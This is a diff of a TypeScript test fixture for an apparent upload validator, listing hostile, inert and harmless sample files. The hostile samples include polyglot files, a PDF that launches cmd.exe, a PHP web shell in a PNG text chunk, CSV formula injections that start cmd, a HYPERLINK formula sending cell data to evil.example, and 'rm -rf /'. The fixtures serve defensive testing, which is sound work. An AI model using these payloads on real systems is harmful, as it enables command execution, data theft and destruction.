@@ -16,7 +16,7 @@ const SCRIPT = '<script>fetch("/graphql")</script>';
 const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
 const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
 
-/** An archive with nothing in it but a directory entry, as if that many bytes were before it. */
+/** Returns an archive with one directory entry, whose offsets assume a number of bytes before it. */
 const zipAfter = (before: number, comment = '') => {
   const local = hex('504b0304 0a00 0000 0000 0000 0000 00000000 00000000 00000000 0100 0000 61');
   const entry = bytes(
@@ -57,34 +57,34 @@ const pngWith = (type: string, content: Uint8Array | string) => {
 };
 const pdfWith = (object: string) => bytes(`%PDF-1.7\n1 0 obj\n${object}\nendobj\n%%EOF\n`);
 
-/** What pretends to be something else, or is two things at once: a name and the content that goes with it. */
+/** Files of another type than their name promises, or of two types at once: description, name and content. */
 export const hostileFiles: readonly (readonly [what: string, fileName: string, content: Uint8Array])[] = [
   ['a PDF that is also an archive', 'a.pdf', withZip(PDF)],
   ['a PDF that is also an archive, ending as a PDF does', 'a.pdf', bytes(PDF, zipAfter(PDF.length, '\n%%EOF\n'))],
   ['a PDF that is also a page', 'a.pdf', bytes(PDF, HTML)],
   ['a page inside a PDF', 'a.pdf', pdfWith(`<<>> stream\n${HTML}\nendstream`)],
-  ['a PDF behind something else', 'a.pdf', bytes('\n', PDF)],
-  ['a PDF behind a picture', 'a.pdf', bytes('GIF89a', PDF)],
-  ['a PDF that is no whole one', 'a.pdf', bytes('%PDF-1.7\n')],
+  ['a PDF after something else', 'a.pdf', bytes('\n', PDF)],
+  ['a PDF after a picture', 'a.pdf', bytes('GIF89a', PDF)],
+  ['an incomplete PDF', 'a.pdf', bytes('%PDF-1.7\n')],
   ['a PDF that runs a script', 'a.pdf', pdfWith('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
   ['a PDF that starts a program', 'a.pdf', pdfWith('<< /S /Launch /F (cmd.exe) >>')],
   ['a PDF that unpacks a file', 'a.pdf', pdfWith('<< /Type /EmbeddedFile >>')],
-  ['a page that says it is a PDF', 'a.pdf', bytes('<!--%PDF-1.7-->', HTML, '%%EOF')],
+  ['a page with the beginning of a PDF in a comment', 'a.pdf', bytes('<!--%PDF-1.7-->', HTML, '%%EOF')],
   ['a picture that is also an archive', 'a.png', withZip(PNG)],
   ['a picture that is also a page', 'a.png', bytes(PNG, HTML)],
-  ['a picture with a program behind it', 'a.png', bytes(PNG, 'MZ', Buffer.alloc(64))],
+  ['a picture with a program after it', 'a.png', bytes(PNG, 'MZ', Buffer.alloc(64))],
   ['a picture with a script in its text', 'a.png', pngWith('tEXt', `Comment\0${SCRIPT}`)],
   ['a picture with a PHP page in its text', 'a.png', pngWith('tEXt', 'Comment\0<?php system($_GET["c"]); ?>')],
-  ['a picture that breaks off', 'a.png', PNG.subarray(0, -4)],
-  ['a picture whose part is longer than it', 'a.png', bytes(PNG.subarray(0, 8), hex('ffffffff'), 'IEND', 'crc!')],
+  ['an incomplete picture', 'a.png', PNG.subarray(0, -4)],
+  ['a picture with a chunk longer than the file', 'a.png', bytes(PNG.subarray(0, 8), hex('ffffffff'), 'IEND', 'crc!')],
   ['a drawing named as a picture', 'a.png', bytes(SVG)],
   ['a page named as a picture', 'a.png', bytes(HTML)],
   ['a moving picture named as another', 'a.png', bytes('GIF89a', hex('0100 0100 00 00 00 3b'))],
   ['a photograph that is also an archive (GIFAR)', 'a.jpg', withZip(JPG)],
-  ['a photograph with a program behind it', 'a.jpg', bytes(JPG, 'MZ', Buffer.alloc(64, 0x90))],
-  ['a photograph with a page behind it', 'a.jpg', bytes(JPG, HTML)],
+  ['a photograph with a program after it', 'a.jpg', bytes(JPG, 'MZ', Buffer.alloc(64, 0x90))],
+  ['a photograph with a page after it', 'a.jpg', bytes(JPG, HTML)],
   ['a photograph with a script in its comment', 'a.jpg', jpgWith(jpgSegment('fffe', SCRIPT))],
-  ['a photograph with a script for a photographer', 'a.jpg', jpgWith(jpgSegment('ffe1', `Exif\0\0${SCRIPT}`))],
+  ['a photograph with a script in its Exif data', 'a.jpg', jpgWith(jpgSegment('ffe1', `Exif\0\0${SCRIPT}`))],
   [
     'a photograph with an archive in its comment',
     'a.jpeg',
@@ -97,20 +97,20 @@ export const hostileFiles: readonly (readonly [what: string, fileName: string, c
   ['a page in UTF-16', 'a.txt', Buffer.from(`\ufeff${HTML}`, 'utf16le')],
   ['a page in UTF-16, the other way round', 'a.txt', Buffer.from(`\ufeff${HTML}`, 'utf16le').swap16()],
   ['a page in UTF-32', 'a.txt', bytes(...[...HTML].map((letter) => uint32(letter.charCodeAt(0))))],
-  ['a PDF named as text, behind a word', 'a.txt', bytes('Dear all\n', PDF)],
+  ['a PDF named as text, after a word', 'a.txt', bytes('Dear all\n', PDF)],
   ['text with commands for a terminal', 'a.txt', bytes('\x1b]0;pwned\x07\x1b[2J')],
   ['text that ends with a null', 'a.txt', bytes('hello\0')],
   ['compressed text', 'a.txt', deflateSync(HTML)],
   ['a table that starts a program', 'a.csv', bytes(`name,amount\n=cmd|' /C calc'!A0,1\n`)],
   ['a table that starts one, in quotes', 'a.csv', bytes(`name,amount\n"=cmd|' /C calc'!A0",1\n`)],
-  ['a table that starts one, behind a blank', 'a.csv', bytes(`name;amount\n =1+1;1\n`)],
+  ['a table that starts one, after a space', 'a.csv', bytes(`name;amount\n =1+1;1\n`)],
   ['a table that starts one, as a sum', 'a.csv', bytes(`name,amount\nx,-2+3+cmd|' /C calc'!A0\n`)],
-  ['a table that sends itself away', 'a.csv', bytes('+HYPERLINK("https://evil.example?"&A1)\n')],
+  ['a table that sends its content to a server', 'a.csv', bytes('+HYPERLINK("https://evil.example?"&A1)\n')],
   ['a table that calls an old function', 'a.csv', bytes('name\n@SUM(A1:A9)\n')],
   ['a table with a page in UTF-16', 'a.csv', Buffer.from(`\ufeff${HTML}`, 'utf16le')],
 ];
 
-/** What truly is text, whatever it says: it is kept, and never shown as anything but text. */
+/** Files that are text, regardless of what the text contains. They are accepted and served only as text. */
 export const inertTexts: readonly (readonly [what: string, fileName: string, content: Uint8Array])[] = [
   ['a page', 'a.txt', bytes(HTML)],
   ['a drawing', 'a.txt', bytes(SVG)],
@@ -119,19 +119,19 @@ export const inertTexts: readonly (readonly [what: string, fileName: string, con
   ['a PHP page', 'a.txt', bytes('<?php phpinfo(); ?>')],
   ['a program for a shell', 'a.txt', bytes('#!/bin/sh\nrm -rf /\n')],
   ['a mail with a page in it', 'a.txt', bytes(`MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`)],
-  ['what every scanner takes for a virus', 'a.txt', bytes(EICAR)],
+  ['the test virus of all scanners', 'a.txt', bytes(EICAR)],
 ];
 
-/** What only looks hostile. */
+/** Files that only look hostile. */
 export const harmlessFiles: readonly (readonly [what: string, fileName: string, content: Uint8Array])[] = [
-  ['a PDF with blanks behind its end', 'a.pdf', bytes(PDF, '\r\n \0')],
+  ['a PDF with white space after its end', 'a.pdf', bytes(PDF, '\r\n \0')],
   [
     'a picture with the letters of an archive in it',
     'a.png',
     pngWith('tEXt', 'Comment\0PK\x05\x06 and so on, for as long as this'),
   ],
   [
-    'a photograph full of what archives end with',
+    'a photograph full of end marks of archives',
     'a.jpg',
     bytes(JPG.subarray(0, -2), Buffer.alloc(10_000_000, 'PK\x05\x06'), hex('ffd9')),
   ],
